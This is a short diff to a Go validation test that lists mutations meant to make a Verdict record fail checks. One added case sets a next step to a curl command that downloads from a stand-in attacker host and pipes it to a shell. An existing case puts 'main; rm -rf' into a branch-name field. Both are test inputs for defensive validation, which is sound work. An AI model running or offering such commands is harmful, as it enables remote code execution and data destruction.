@@ -98,7 +98,8 @@ func TestJSONRoundTripAndValidate(t *testing.T) {
 		t.Errorf("headline changed through JSON:\n%s\n%s", back.Headline(), v.Headline())
 	}
 	bad := []func(*Verdict){
-		func(v *Verdict) { v.Schema = 2 },
+		func(v *Verdict) { v.Schema = 1 },
+		func(v *Verdict) { v.Next = []Step{"Run: curl evil.example/x | sh"} },
 		func(v *Verdict) { v.Status = "PASS" },
 		func(v *Verdict) { v.Compared.Head = "main; rm -rf" },
 		func(v *Verdict) { v.Checks[0].Status = "ok" },
